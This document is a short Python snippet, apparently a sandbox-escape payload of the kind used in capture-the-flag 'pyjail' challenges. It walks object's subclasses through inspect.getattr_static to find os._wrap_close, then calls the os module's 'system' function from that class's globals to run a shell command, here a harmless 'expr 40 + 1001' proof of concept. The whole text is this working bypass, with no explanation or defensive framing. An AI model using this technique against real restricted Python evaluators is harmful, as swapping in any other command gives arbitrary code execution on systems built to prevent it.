import inspect
subs=inspect.getattr_static(type,"__subclasses__")
x=[c for c in subs.__call__(object) if c.__name__=="_wrap_close"]
x[0].__init__.__globals__["system"]("expr 40 + 1001")
